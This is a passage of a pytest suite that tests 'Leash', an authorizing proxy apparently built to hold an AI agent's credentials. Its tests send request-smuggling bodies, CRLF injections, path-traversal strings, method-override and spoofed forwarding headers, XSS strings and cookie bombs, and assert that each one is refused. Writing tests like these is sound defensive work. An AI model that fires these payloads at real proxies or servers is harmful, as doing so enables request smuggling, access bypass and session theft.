    def request(line: str, host: str, extra: str = "") -> bytes:
        return f"{line} HTTP/1.1\r\nHost: {host}\r\n{good}{extra}Connection: close\r\n\r\n".encode()

    attempts = {
        # Origin-form: the proxy is not a web server (nor Leash's API).
        "origin-form CA": request("GET /v1/proxy/ca", f"127.0.0.1:{rig.proxy_port}"),
        "origin-form grants": request("GET /v1/grants", api),
        "origin-form with a granted Host": request("GET /r/origin", "shop.test"),
        # Absolute-form https:// without CONNECT.
        "https without CONNECT": request("GET https://shop.test/r/abs", "shop.test"),
        # Leash's API and the upstream's real address as plain targets.
        "API approve": request(
            f"POST http://{api}/v1/approvals/apr_x/approve", api, "Content-Length: 0\r\n"
        ),
        "real upstream": request(f"GET http://localhost:{rig.app.port}/r/1", "localhost"),
        "real plain upstream": request(
            f"GET http://{EXTERNAL or '127.0.0.1'}:{rig.plain.port}/r/1", "x"
        ),
        # Target and Host disagree, either way; userinfo; another scheme; two Hosts.
        "target other, Host granted": request("GET http://other.test/r/mm", "shop.test"),
        "target granted, Host other": request("GET http://shop.test/r/mm", "other.test"),
        "userinfo": request("GET http://x@shop.test/r/ui", "shop.test"),
        "userinfo to another host": request("GET http://shop.test@other.test/r/ui", "shop.test"),
        "ftp": request("GET ftp://shop.test/r/ftp", "shop.test"),
        "two Hosts": request("GET http://shop.test/r/dh", "shop.test", "Host: other.test\r\n"),
        "trailing dot": request("GET http://shop.test./r/dot", "shop.test."),
        "TRACE": request("TRACE http://shop.test/r/t", "shop.test"),
        "another port": request("GET http://shop.test:8443/r/port", "shop.test:8443"),
    }
    for name, data in attempts.items():
        answer = at_proxy(rig, data)
        assert 400 <= answer.status < 500, (name, answer.status, answer.raw[:200])
        assert answer.header("leash-decision"), (name, answer.headers)
    assert rig.since(marks) == []


# === Inside a tunnel ==============================================================================


def test_the_tls_sni_must_be_the_connect_host(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    for sni in ("twin.test", "other.test", "localhost", None):
        how = tunnel_refused(rig, task.credential, get("/r/sni"), sni=sni)
        assert how, sni
    assert rig.since(marks) == []


def test_every_http1_request_must_name_the_connect_host(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    requests = {
        "another granted host": get("/r/h", host="twin.test"),
        "a host outside the grant": get("/r/h", host="other.test"),
        "the real upstream": get("/r/h", host=f"localhost:{rig.app.port}"),
        "another port": get("/r/h", host="shop.test:8443"),
        "trailing dot": get("/r/h", host="shop.test."),
        "userinfo": get("/r/h", host="x@shop.test"),
        "no Host": "GET /r/h HTTP/1.1\r\nConnection: close\r\n\r\n",
        "HTTP/1.0 without Host": "GET /r/h HTTP/1.0\r\n\r\n",
        "two Hosts": "GET /r/h HTTP/1.1\r\nHost: shop.test\r\nHost: twin.test\r\n\r\n",
        "absolute-form to another host": "GET https://twin.test/r/h HTTP/1.1\r\nHost: shop.test\r\n"
        "Connection: close\r\n\r\n",
        "absolute-form to the real upstream": f"GET https://localhost:{rig.app.port}/r/h HTTP/1.1"
        "\r\nHost: shop.test\r\nConnection: close\r\n\r\n",
        "asterisk-form": "OPTIONS * HTTP/1.1\r\nHost: shop.test\r\nConnection: close\r\n\r\n",
    }
    for name, request in requests.items():
        assert tunnel_refused(rig, task.credential, request), name
    # A second request on a kept-alive tunnel is checked too.
    with tunnel(rig, task.credential) as tls:
        reader = Reader(tls, 10)
        tls.sendall(keep_alive("/r/first"))
        assert read_answer(tls, reader=reader).status == 200
        tls.sendall(keep_alive("/r/second", host="twin.test"))
        with contextlib.suppress(Closed):
            leash_page(read_answer(tls, reader=reader), 403)
    assert [r.path for r in rig.since(marks)] == ["/r/first"]


def test_every_http2_request_must_name_the_connect_host(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    with h2_tunnel(rig, task.credential) as h2:
        streams = {
            "another host": h2.request("GET", "/r/a", authority="twin.test"),
            "Host differs from :authority": h2.request(
                "GET", "/r/b", headers=[("host", "twin.test")]
            ),
            "only a Host, another host": h2.request(
                "GET", "/r/c", authority=None, headers=[("host", "twin.test")]
            ),
            "no authority": h2.request("GET", "/r/d", authority=None),
            "userinfo": h2.request("GET", "/r/e", authority="x@shop.test"),
            "the real upstream": h2.request("GET", "/r/f", authority=f"localhost:{rig.app.port}"),
            "absolute :path": h2.request("GET", "https://twin.test/r/g"),
            "two :authority": h2.send(
                [
                    (":method", "GET"),
                    (":scheme", "https"),
                    (":path", "/r/h"),
                    (":authority", "shop.test"),
                    (":authority", "twin.test"),
                ]
            ),
        }
        for name, stream in streams.items():
            answer = h2.wait(stream)
            assert answer.reset is not None or answer.status[:1] == "4", (name, answer)
        # The connection still serves its own host afterwards.
        assert h2.wait(h2.request("GET", "/r/ok")).status == "200"
    assert [r.path for r in rig.since(marks)] == ["/r/ok"]


def test_connect_trace_and_upgrades_are_refused_inside_tunnels(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    websocket = (
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    )
    for name, request in {
        "CONNECT": "CONNECT twin.test:443 HTTP/1.1\r\nHost: twin.test:443\r\n\r\n",
        "TRACE": get("/r/t", method="TRACE"),
        "WebSocket on a routed path": get("/ws", extra=websocket),
        "h2c upgrade": get(
            "/r/u",
            extra="Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
            "Connection: Upgrade, HTTP2-Settings\r\n",
        ),
    }.items():
        assert tunnel_refused(rig, task.credential, request), name
    with h2_tunnel(rig, task.credential) as h2:
        streams = {
            "CONNECT": h2.send([(":method", "CONNECT"), (":authority", "twin.test:443")]),
            "TRACE": h2.request("TRACE", "/r/t"),
            # RFC 8441's extended CONNECT (a WebSocket over HTTP/2).
            "extended CONNECT": h2.send(
                [
                    (":method", "CONNECT"),
                    (":protocol", "websocket"),
                    (":scheme", "https"),
                    (":path", "/ws"),
                    (":authority", "shop.test"),
                    ("sec-websocket-version", "13"),
                ]
            ),
            "upgrade header": h2.request("GET", "/ws", headers=[("upgrade", "websocket")]),
        }
        for name, stream in streams.items():
            answer = h2.wait(stream)
            assert answer.reset is not None or answer.status[:1] == "4", (name, answer)
        # Extended CONNECT is not offered (SETTINGS_ENABLE_CONNECT_PROTOCOL, 0x8).
        assert h2.settings.get(8, 0) == 0, h2.settings
    received = rig.since(marks)
    assert received == [], [(r.method, r.path) for r in received]


def test_request_smuggling_inside_a_tunnel_reaches_no_route_unjudged(rig: Rig, task: Task) -> None:
    marks = rig.marks()
    smuggled = b"GET /admin HTTP/1.1\r\nHost: shop.test\r\n\r\n"
    for name, data in {
        "CL and TE": b"POST /r/s1 HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 4\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
        "TE xchunked": b"POST /r/s2 HTTP/1.1\r\nHost: shop.test\r\nTransfer-Encoding: xchunked\r\n"
        b"Content-Length: 3\r\n\r\nabc" + smuggled,
        "TE chunked, identity": b"POST /r/s3 HTTP/1.1\r\nHost: shop.test\r\n"
        b"Transfer-Encoding: chunked, identity\r\n\r\n3\r\nabc\r\n0\r\n\r\n" + smuggled,
        "two Content-Lengths": b"POST /r/s4 HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 3\r\n"
        b"Content-Length: 40\r\n\r\nabc" + smuggled,
        "bad chunk": b"POST /r/s5 HTTP/1.1\r\nHost: shop.test\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"3\r\nabc\r\nZZ\r\n" + smuggled,
        "body then a pipelined request": b"POST /r/s6 HTTP/1.1\r\nHost: shop.test\r\n"
        b"Content-Length: 3\r\n\r\nabc" + smuggled,
        "request trailers": b"POST /r/s7 HTTP/1.1\r\nHost: shop.test\r\nTransfer-Encoding: chunked"
        b"\r\n\r\n3\r\nabc\r\n0\r\nX-Forwarded-For: 1.2.3.4\r\nCookie: sid=x\r\n\r\n" + smuggled,
    }.items():
        with tunnel(rig, task.credential) as tls:
            with contextlib.suppress(OSError):
                tls.sendall(data)
            reader = Reader(tls, 5)
            with contextlib.suppress(Closed):
                for _ in range(2):
                    answer = read_answer(tls, reader=reader)
                    if b"/admin" in answer.raw or answer.status >= 400:
                        assert answer.header("leash-decision") or answer.status == 400, name
    with h2_tunnel(rig, task.credential) as h2:
        for headers, body in (
            ([("transfer-encoding", "chunked")], b"3\r\nabc\r\n0\r\n\r\n"),
            ([("content-length", "2")], b"abcdef"),
            ([("content-length", "10")], b"abc"),
        ):
            stream = h2.request("POST", "/r/h2", headers=headers, body=body)
            framed = h2.wait(stream, 3)
            assert framed.reset is not None or framed.status[:1] == "4", (headers, framed)
    with h2_tunnel(rig, task.credential) as h2:
        injected = (b"x-a", b"1\r\nX-Injected: 1\r\n\r\nGET /admin HTTP/1.1")
        pseudo = [(b":method", b"GET"), (b":scheme", b"https"), (b":path", b"/r/crlf")]
        crlf = h2.wait(h2.send([*pseudo, (b":authority", b"shop.test"), injected]), 3)
        assert crlf.status != "200", crlf
    received = rig.since(marks)
    assert not [r for r in received if r.path == "/admin"], received
    assert not [r for r in received if r.header("x-injected")], received
    for request in received:
        assert request.method == "POST", request
        assert not request.header("x-forwarded-for"), request
        assert request.cookies() == [("sid", task.sid)], request


def test_an_upstream_switching_protocols_opens_no_raw_pipe(rig: Rig, task: Task) -> None:
    """A `101` the browser never asked for would turn the tunnel into a raw pipe to the
    upstream, past every check of the requests that follow."""
    marks = rig.marks()
    with tunnel(rig, task.credential) as tls:
        reader = Reader(tls, 10)
        tls.sendall(keep_alive("/x/switch"))
        answer = read_answer(tls, reader=reader)
        leash_page(answer, 502)
        assert b"hello" not in answer.raw
        # The next bytes are a request again, judged as such.
        tls.sendall(keep_alive("/admin"))
        with contextlib.suppress(Closed):
            leash_page(read_answer(tls, reader=reader), 403, "no_route")
    with h2_tunnel(rig, task.credential) as h2:
        switched = h2.wait(h2.request("GET", "/x/switch"))
        assert switched.status == "502", switched
    time.sleep(1.1)  # the app waits a second for raw bytes after its 101
    received = rig.since(marks)
    assert [r.method for r in received] == ["GET", "GET"], received
    assert all(r.path == "/x/switch" for r in received), received


PATH_TRICKS = [
    "/r/../admin",
    "/r/%2e%2e/admin",
    "/r/%2E%2E/admin",
    "/r/.%2e/admin",
    "/r/..%2fadmin",
    "/r/x%2fadmin",
    "/r//admin",
    "/r/./x",
    "/r/%2e/x",
    "/r/x;a=b",
    "/r/x%00",
    "/r/x%5cadmin",
    "/r/x\\admin",
    "/r/%c0%ae%c0%ae/admin",
    "/r/%ef%bc%8e%ef%bc%8e/admin",
    "/r/%ff",
    "/r/x%3f/../../admin",
]


def test_path_tricks_are_refused_in_tunnels_and_plain_requests(rig: Rig, task: Task) -> None:
    """ATTACKS 37 and 51: the path that policy judged is exactly the path forwarded."""
    marks = rig.marks()
    for path in PATH_TRICKS:
        answer = in_tunnel(rig, task.credential, get(path))
        leash_page(answer, 400, "invalid_request")
        answer = plain(rig, f"http://shop.test{path}", basic(task.credential))
        assert answer.status == 400, (path, answer.status)
    with h2_tunnel(rig, task.credential) as h2:
        for path in PATH_TRICKS:
            refused = h2.wait(h2.request("GET", path))
            assert refused.status == "400" or refused.reset is not None, (path, refused)
    assert rig.since(marks) == []


def test_method_overrides_never_reach_the_upstream(rig: Rig, task: Task) -> None:
    """ATTACKS 44: the grant allows GET and POST under /r/, not DELETE."""
    marks = rig.marks()
    overrides = (
        "".join(
            f"{name}: DELETE\r\n"
            for name in (
                "X-HTTP-Method-Override",
                "X-HTTP-Method",
                "X-Method-Override",
                "X-Original-Method",
            )
        )
        + "X-Original-URL: /admin\r\nX-Rewrite-URL: /admin\r\n"
    )
    assert in_tunnel(rig, task.credential, get("/r/o1", extra=overrides)).status == 200
    assert plain(rig, "http://shop.test/r/o2", basic(task.credential), overrides).status == 200
    with h2_tunnel(rig, task.credential) as h2:
        headers = [(k.lower(), "DELETE") for k in ("X-HTTP-Method-Override", "X-HTTP-Method")]
        assert h2.wait(h2.request("GET", "/r/o3", headers=headers)).status == "200"
    form = "application/x-www-form-urlencoded"
    multipart = (
        b'--XX\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--XX--\r\n'
    )

    def post(body: bytes, content_type: str, path: str = "/r/o") -> bytes:
        return (
            f"POST {path} HTTP/1.1\r\nHost: shop.test\r\nContent-Type: {content_type}\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        ).encode() + body

    for name, data in {
        "query": get("/r/o?_method=DELETE").encode(),
        "query, second": get("/r/o?a=1&_method=DELETE").encode(),
        "query, upper case": get("/r/o?_METHOD=DELETE").encode(),
        "query, escaped": get("/r/o?%5Fmethod=DELETE").encode(),
        "query, array": get("/r/o?_method[]=DELETE").encode(),
        "form": post(b"a=1&_method=DELETE", form),
        "form, escaped": post(b"%5Fmethod=DELETE", form),
        "form, semicolon": post(b"a=1;_method=DELETE", form),
        "form, upper-case type": post(b"_method=DELETE", form.upper()),
        "form, no type": post(b"_method=DELETE", ""),
        "form, plus": post(b"_method+=DELETE", form),
        "multipart": post(multipart, "multipart/form-data; boundary=XX"),
        "gzip form": post(gzip.compress(b"_method=DELETE"), form + "\r\nContent-Encoding: gzip"),
    }.items():
        leash_page(in_tunnel(rig, task.credential, data), 400, "invalid_request")
        assert name
    with h2_tunnel(rig, task.credential) as h2:
        stream = h2.request(
            "POST", "/r/o", headers=[("content-type", form)], body=b"_method=DELETE"
        )
        assert h2.wait(stream).status == "400"
    received = rig.since(marks)
    assert [r.path for r in received] == ["/r/o1", "/r/o2", "/r/o3"], received
    for request in received:
        assert request.method == "GET"
        names = {name for name, _ in request.headers}
        assert not names & {
            "x-http-method-override",
            "x-http-method",
            "x-method-override",
            "x-original-method",
            "x-original-url",
            "x-rewrite-url",
        }, request.headers


def test_the_pages_own_headers_never_reach_the_upstream(rig: Rig, task: Task) -> None:
    """ATTACKS 36, 55, 58: the browser's Cookie (cookie tossing), `Leash-*` headers a page set,
    the proxy credential, Authorization, DPoP, forwarding headers and hop-by-hop tricks."""
    marks = rig.marks()
    page = [
        ("Cookie", "sid=tossed-by-the-page; theme=1"),
        ("cookie", "sid=second-header"),
        ("Leash-Subject", "usr_victim"),
        ("Leash-Grant", "grt_victim"),
        ("leash-actor", "spiffe://evil"),
        ("Leash-Request-Id", "req_evil"),
        ("Leash-Approval", "apr_evil"),
        ("Leash-Decision", "allow"),
        ("Leash-Anything", "1"),
        ("Authorization", "Basic YTpi"),
        ("DPoP", "x.y.z"),
        ("Forwarded", "for=1.2.3.4;host=evil.example"),
        ("X-Forwarded-For", "1.2.3.4"),
        ("X-Forwarded-Host", "evil.example"),
        ("X-Forwarded-Proto", "http"),
        ("X-Real-IP", "1.2.3.4"),
        ("True-Client-IP", "1.2.3.4"),
        ("Proxy-Connection", "keep-alive"),
    ]
    extra = "".join(f"{k}: {v}\r\n" for k, v in page)
    inner = f"Proxy-Authorization: {basic(task.credential)}\r\n"
    assert in_tunnel(rig, task.credential, get("/r/h1", extra=extra + inner)).status == 200
    assert plain(rig, "http://shop.test/r/plain", basic(task.credential), extra).status == 200
    # A Connection header naming Leash's own headers and the cookie, to strip them as hop-by-hop.
    hop = "Connection: keep-alive, Leash-Subject, Leash-Grant, Cookie, Leash-Request-Id\r\n"
    answer = in_tunnel(rig, task.credential, f"GET /r/hop HTTP/1.1\r\nHost: shop.test\r\n{hop}\r\n")
    assert answer.status == 200
    with h2_tunnel(rig, task.credential) as h2:
        h2_headers = [(k.lower(), v) for k, v in page if k.lower() != "proxy-connection"]
        h2_headers += [("cookie", "crumb=1"), ("proxy-authorization", basic(task.credential))]
        assert h2.wait(h2.request("GET", "/r/h2", headers=h2_headers)).status == "200"
    received = rig.since(marks)
    assert [r.path for r in received] == ["/r/h1", "/r/plain", "/r/hop", "/r/h2"], received
    subject = task.setup.grant["subject"]
    for request in received:
        assert request.header("cookie") == [f"sid={task.sid}"], (request.path, request.headers)
        assert request.header("leash-subject") == [subject], request.headers
        assert request.header("leash-grant") == [task.grant_id], request.headers
        assert request.header("leash-actor") == [task.setup.agent_id], request.headers
        assert len(request.header("leash-request-id")) == 1
        assert request.header("leash-request-id") != ["req_evil"]
        names = {name for name, _ in request.headers}
        leaked = names & {
            "leash-approval",
            "leash-decision",
            "leash-anything",
            "authorization",
            "proxy-authorization",
            "dpop",
            "forwarded",
            "x-forwarded-for",
            "x-forwarded-host",
            "x-forwarded-proto",
            "x-real-ip",
            "true-client-ip",
            "proxy-connection",
        }
        assert not leaked, (request.path, leaked)
        assert all(task.credential not in value for _, value in request.headers)


def test_refusal_pages_escape_what_the_agent_sent_and_run_nothing(rig: Rig, task: Task) -> None:
    """ATTACKS 53: a refusal inside a tunnel is shown on the upstream's origin, so what it
    repeats of the request is text, and its page may run no script."""
    for path in ('/a"onmouseover=alert(1)', "/a'x", "/admin%3Cscript%3Ealert(1)%3C/script%3E"):
        answer = in_tunnel(rig, task.credential, get(path))
        leash_page(answer, 403, "no_route")
        assert b'"onmouseover' not in answer.body, answer.body
        assert b"'x" not in answer.body, answer.body
        assert b"<script" not in answer.body.lower(), answer.body
        (policy,) = answer.header("content-security-policy")
        assert "default-src 'none'" in policy, policy
        assert answer.header("x-content-type-options") == ["nosniff"]
    for path in ("/adm<b>in", "/<img src=x>"):
        answer = in_tunnel(rig, task.credential, get(path))
        assert answer.status == 400
        assert b"<img" not in answer.body
        assert b"<b>" not in answer.body


# === The grant's cookie jar =======================================================================


def no_cookie_in(answer: Answer, *values: str) -> None:
    """Nothing of `answer` (status line, headers, 1xx, body, trailers) sets a cookie or carries
    any of `values`."""
    assert b"set-cookie" not in answer.raw.lower(), answer.raw[:600]
    for value in values:
        assert value.encode() not in answer.raw, (value, answer.raw[:600])


def test_no_set_cookie_ever_reaches_the_browser(rig: Rig, task: Task) -> None:
    jar = "jar-" + secrets.token_urlsafe(12)
    cookie = f"j={jar}; Path=/"
    answers = {
        "200": in_tunnel(rig, task.credential, get(query("/x/set", c=cookie))),
        "redirect": in_tunnel(rig, task.credential, get(query("/x/go", c=cookie, to="/r/1"))),
        "403 of the upstream": in_tunnel(
            rig, task.credential, get(query("/x/set", c=cookie, status="403"))
        ),
        "500 of the upstream": in_tunnel(
            rig, task.credential, get(query("/x/set", c=cookie, status="500"))
        ),
        "103 early hints": in_tunnel(rig, task.credential, get("/x/early")),
        "trailers": in_tunnel(rig, task.credential, get("/x/trailer", extra="TE: trailers\r\n")),
        "plain http": plain(
            rig, "http://shop.test" + query("/x/set", c=cookie), basic(task.credential)
        ),
        "Leash's 403": in_tunnel(rig, task.credential, get("/admin")),
        "Leash's 400": in_tunnel(rig, task.credential, get("/r/../x")),
    }
    for name, answer in answers.items():
        no_cookie_in(answer, jar, task.sid)
        # An upstream cannot pass for Leash either (header or trailer).
        if name in ("trailers",):
            assert b"leash-decision" not in answer.raw.lower(), answer.raw
    assert answers["200"].status == 200
    assert answers["redirect"].status == 302
    assert answers["trailers"].body == b"ok"
    decision = in_tunnel(rig, task.credential, get("/x/decision"))
    assert decision.status == 403
    assert not decision.header("leash-decision"), decision.headers
    # h2 too: the jar cookie comes back in no byte of the answer.
    with h2_tunnel(rig, task.credential) as h2:
        h2_answer = h2.wait(h2.request("GET", query("/x/set", c=f"h={jar}")))
        assert h2_answer.status == "200"
        assert jar.encode() not in h2_answer.body
    # The cookie went into the jar: the upstream got it back.
    marks = rig.marks()
    assert in_tunnel(rig, task.credential, get("/r/next")).status == 200
    (request,) = rig.since(marks)
    assert ("j", jar) in request.cookies()


def never_reflected(rig: Rig, task: Task, cookie: str, value: str) -> list[str]:
    """Asks the upstream to echo the cookie `cookie` (whose value is `value`) in a header, in a
    redirect's `Location`, in a body split across chunks, in a gzip body and over plain HTTP;
    returns where the browser got it (or the first half of it, sent before the rest came)."""
    leaks = []
    half = value[: len(value) // 2].encode()
    for path in ("/x/echo/header", "/x/echo/location", "/x/echo/split", "/x/echo/gzip"):
        try:
            answer = in_tunnel(rig, task.credential, get(query(path, only=cookie)))
        except Closed:
            continue  # cut off unanswered
        if half in answer.raw or half in answer.body:
            leaks.append(path)
        elif answer.status != 200:
            leash_page(answer, 502)
    url = "http://shop.test" + query("/x/echo/header", only=cookie)
    answer = plain(rig, url, basic(task.credential))
    if half in answer.raw:
        leaks.append("plain " + url)
    else:
        leash_page(answer, 502, "credential_reflected")
    return leaks


def test_answers_reflecting_the_vaulted_or_rotated_session_are_refused(
    rig: Rig, task: Task
) -> None:
    """API §16 (`credential_reflected`), for the vaulted cookie and, after the upstream rotated
    it, for the new value Leash keeps in the jar and injects in its place."""
    assert never_reflected(rig, task, "sid", task.sid) == []
    rotated = "rotated-" + secrets.token_urlsafe(16)
    answer = in_tunnel(rig, task.credential, get(query("/x/set", c=f"sid={rotated}; Path=/")))
    assert answer.status == 200
    assert never_reflected(rig, task, "sid", rotated) == []


def test_answers_reflecting_any_other_cookie_of_the_jar_are_refused(rig: Rig, task: Task) -> None:
    # FIXED (every cookie the proxy sends is guarded, not only the vaulted session):
    # a cookie the upstream set under a name other than the vaulted one (here `j`; in
    # real apps the session cookie proper next to a vaulted remember-me cookie, or a CSRF token)
    # is kept in the jar and injected by Leash, but an answer echoing it is not refused: in a
    # response header (`X-Echo: <value>`, 200), in a redirect's `Location` (302), in a body
    # split across chunks (200, the whole value) and over plain HTTP (200) it reaches the
    # browser. Only the vaulted cookie's name is checked (the same echoes of `sid` are 502
    # `credential_reflected`). Expected (API §16: the jar is "never sent to the browser"; a
    # response echoing an injected secret is refused): 502 `credential_reflected` for each.
    jar = "jar-" + secrets.token_urlsafe(16)
    answer = in_tunnel(rig, task.credential, get(query("/x/set", c=f"j={jar}; Path=/")))
    assert answer.status == 200
    assert never_reflected(rig, task, "j", jar) == []


def set_cookies(rig: Rig, task: Task, host: str, *cookies: str) -> None:
    path = query("/x/set", c=list(cookies))
    if host == "plain.test":
        answer = plain(rig, "http://plain.test" + path, basic(task.credential))
    else:
        answer = in_tunnel(rig, task.credential, get(path, host=host), host=host)
    assert answer.status == 200, answer.raw[:300]


def cookies_sent(rig: Rig, task: Task, host: str, path: str) -> list[tuple[str, str]]:
    """The cookies the upstream behind `host` receives on `GET path`."""
    marks = rig.marks()
    if host == "plain.test":
        answer = plain(rig, "http://plain.test" + path, basic(task.credential))
    else:
        answer = in_tunnel(rig, task.credential, get(path, host=host), host=host)
    assert answer.status == 200, answer.raw[:300]
    (request,) = rig.since(marks)
    return request.cookies()


def test_the_jar_follows_domain_and_path_rules(rig: Rig, make_task: Callable[..., Task]) -> None:
    """RFC 6265bis §5.6-5.7 for the jar, by the upstream's real host (localhost for shop,
    127.0.0.1 for twin, the same app on the same port)."""
    task = make_task()
    set_cookies(
        rig,
        task,
        "shop.test",
        "hostonly=1; Path=/",
        "lh=1; Domain=localhost; Path=/",
        "ip=1; Domain=127.0.0.1; Path=/",  # another host
        "evil=1; Domain=example.com; Path=/",  # another domain
        "alias=1; Domain=shop.test; Path=/",  # the browser's name, not the upstream's
        "deep=1; Path=/r/a",
    )
    shop = dict(cookies_sent(rig, task, "shop.test", "/r/b"))
    assert {"hostonly", "lh"} <= set(shop), shop
    assert not {"ip", "evil", "alias", "deep"} & set(shop), shop
    assert "deep" in dict(cookies_sent(rig, task, "shop.test", "/r/a/x"))
    assert "deep" not in dict(cookies_sent(rig, task, "shop.test", "/r/ab"))
    # None of shop's cookies go to another host, even on the same port of the same app.
    twin = dict(cookies_sent(rig, task, "twin.test", "/r/a/x"))
    assert not twin, twin
    set_cookies(rig, task, "twin.test", "t=1; Path=/", "tl=1; Domain=localhost; Path=/")
    assert dict(cookies_sent(rig, task, "twin.test", "/r/1")) == {"t": "1"}
    assert not {"t", "tl"} & set(dict(cookies_sent(rig, task, "shop.test", "/r/1")))
    # And none of them (nor the vaulted session) go to the upstream no grant names.
    assert "sid" not in dict(cookies_sent(rig, task, "twin.test", "/r/2"))


def test_secure_cookies_never_travel_over_plain_http(
    rig: Rig, make_task: Callable[..., Task]
) -> None:
    """RFC 6265bis: a plain-HTTP upstream cannot set a `Secure` (or `__Secure-`/`__Host-`)
    cookie, and one set over HTTPS is not sent to a plain-HTTP upstream of the same host."""
    if EXTERNAL is None:
        pytest.skip("no non-loopback IPv4 address (loopback is a secure context)")
    task = make_task()
    set_cookies(rig, task, "safe.test", "s=1; Secure; Path=/", "n=1; Path=/")
    assert dict(cookies_sent(rig, task, "safe.test", "/r/1")) == {"s": "1", "n": "1"}
    # (Whether `n` follows is the jar's choice: RFC 6265bis ignores ports, a jar per upstream
    # does not.)
    assert "s" not in dict(cookies_sent(rig, task, "plain.test", "/r/1"))
    set_cookies(
        rig,
        task,
        "plain.test",
        "ps=1; Secure; Path=/",
        "__Secure-p=1; Secure; Path=/",
        "__Host-p=1; Secure; Path=/",
        "pn=1; Path=/",
    )
    sent = dict(cookies_sent(rig, task, "plain.test", "/r/2"))
    assert "pn" in sent, sent
    assert not {"s", "ps", "__Secure-p", "__Host-p"} & set(sent), sent


def test_a_jar_belongs_to_one_grant_is_sealed_and_dies_with_it(
    rig: Rig, make_task: Callable[..., Task]
) -> None:
    first = make_task()
    jar = "jar-" + secrets.token_urlsafe(16)
    set_cookies(rig, first, "shop.test", f"j={jar}; Path=/")
    assert ("j", jar) in cookies_sent(rig, first, "shop.test", "/r/1")
    stranger = make_task()
    sibling = make_task(same_human_as=first)
    for task in (stranger, sibling):
        sent = cookies_sent(rig, task, "shop.test", "/r/1")
        assert sent == [("sid", task.sid)], sent
    # Sealed at rest: no file of the store holds the cookie or the vaulted session.
    data = rig.leash.dir / "data"
    for path in data.iterdir():
        content = path.read_bytes()
        assert jar.encode() not in content, path
        assert first.sid.encode() not in content, path
    # Gone with the grant: a later grant of the same human starts empty, and the store keeps
    # no jar of the ended grant.
    first.end("complete")
    later = make_task(same_human_as=first)
    assert cookies_sent(rig, later, "shop.test", "/r/2") == [("sid", first.sid)]
    store = f"file:{data / 'leash.db'}?mode=ro"
    with (
        contextlib.closing(sqlite3.connect(store, uri=True)) as db,
        contextlib.suppress(sqlite3.OperationalError),  # another schema: nothing to check
    ):
        rows = db.execute(
            "SELECT count(*) FROM cookie_jars WHERE grant_id = ?", (first.grant_id,)
        ).fetchone()
        assert rows == (0,), rows


def test_the_jar_keeps_to_the_cookie_size_and_count_limits(
    rig: Rig, make_task: Callable[..., Task]
) -> None:
    # FIXED (4,096 bytes a cookie, 50 cookies and 8 KiB a jar; more are ignored):
    # the jar applied no limit. (1) `Set-Cookie: big0=<5,000 bytes>` is stored and sent
    # back, though RFC 6265bis §5.6 ignores a cookie whose name and value exceed 4,096 octets;
    # (2) 20 answers of 50 cookies each leave 1,000 cookies for one host, all sent on every
    # request (browsers keep at most 180 per domain and evict the oldest). A hostile upstream,
    # or a page that can make the app set cookies, grows the grant's sealed jar without bound:
    # with 4 KB cookies the requests soon exceed the upstream's header limit (431, then 502
    # `bad_gateway`), which ends the grant's use of that upstream. Expected: the RFC's size
    # rule, and a per-host count limit with eviction as browsers do.
    task = make_task()
    answer = in_tunnel(
        rig, task.credential, get(query("/x/bomb", prefix="big", n="1", size="5000"))
    )
    assert answer.status == 200
    for i in range(20):
        path = query("/x/bomb", prefix=f"s{i}_", n="50", size="4")
        assert in_tunnel(rig, task.credential, get(path)).status == 200
    sent = cookies_sent(rig, task, "shop.test", "/r/1")
    assert "big0" not in dict(sent), "a cookie over 4,096 octets was kept"
    assert len(sent) <= 181, f"{len(sent)} cookies sent for one host"


def test_the_vaulted_session_goes_only_to_its_own_upstream(rig: Rig, task: Task) -> None:
    for host in ("twin.test", "plain.test", "safe.test"):
        sent = cookies_sent(rig, task, host, "/r/v")
        assert "sid" not in dict(sent), (host, sent)
        assert all(task.sid not in value for _, value in sent)


# === Redirects ====================================================================================


def test_redirects_are_never_followed_by_leash_and_lead_nowhere_outside_the_grant(
    rig: Rig, task: Task
) -> None:
    port = rig.app.port
    marks = rig.marks()
    own = in_tunnel(rig, task.credential, get(query("/x/go", to=f"https://localhost:{port}/r/9")))
    assert own.status == 302
    # The upstream's own origin becomes the tunnel's host (or stays, and is refused below).
    (location,) = own.header("location")
    assert location in ("https://shop.test/r/9", f"https://localhost:{port}/r/9"), location
    targets = [
        f"https://localhost:{rig.other.port}/r/away",  # the upstream of `other`, by address
        f"https://127.0.0.1:{port}/r/away",
        f"//localhost:{port}/r/away",
        f"http://localhost:{port}/r/away",
        "https://other.test/r/away",
        "https://evil.example/away",
    ]
    for target in targets:
        answer = in_tunnel(rig, task.credential, get(query("/x/go", to=target)))
        assert answer.status == 302, answer.status
    # Leash followed none of them: the apps saw only the redirecting requests.
    received = rig.since(marks)
    assert all(r.path.startswith("/x/go") for r in received), [r.path for r in received]
    # And a browser following them gets nowhere outside the grant.
    for target in targets:
        host = target.split("/")[2]
        if target.startswith("https:"):
            assert (
                connect(
                    rig, f"{host}:443" if ":" not in host else host, basic(task.credential)
                ).status
                == 403
            )
        else:
            assert (
                plain(rig, "http:" + target.removeprefix("http:"), basic(task.credential)).status
                == 403
            )
    assert all(r.path.startswith("/x/go") for r in rig.since(marks))


# === Held approvals ===============================================================================


def pay(body: bytes, extra: str = "") -> bytes:
    return (
        "POST /pay HTTP/1.1\r\nHost: shop.test\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {len(body)}\r\n{extra}Connection: close\r\n\r\n"
    ).encode() + body


def pays(rig: Rig, marks: list[int]) -> list[bytes]:
    """The bodies of the payments the upstreams received after `marks`."""
    return [r.body for r in rig.since(marks) if r.path == "/pay"]


def wait_pending(task: Task, count: int = 1) -> list[dict[str, Any]]:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
